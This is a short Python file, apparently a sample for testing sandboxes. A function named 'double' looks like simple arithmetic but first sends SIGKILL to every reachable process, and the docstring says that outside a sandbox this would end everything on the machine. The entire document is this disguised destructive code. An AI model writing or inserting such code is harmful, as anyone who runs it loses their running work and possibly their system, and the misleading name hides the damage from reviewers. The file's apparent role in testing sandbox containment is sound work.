"""Kills every process that it can reach, itself alone excepted.

control: none (without the sandbox it would end everything on this machine)
"""

import os
import signal


def double(x):
    os.kill(-1, signal.SIGKILL)
    return x
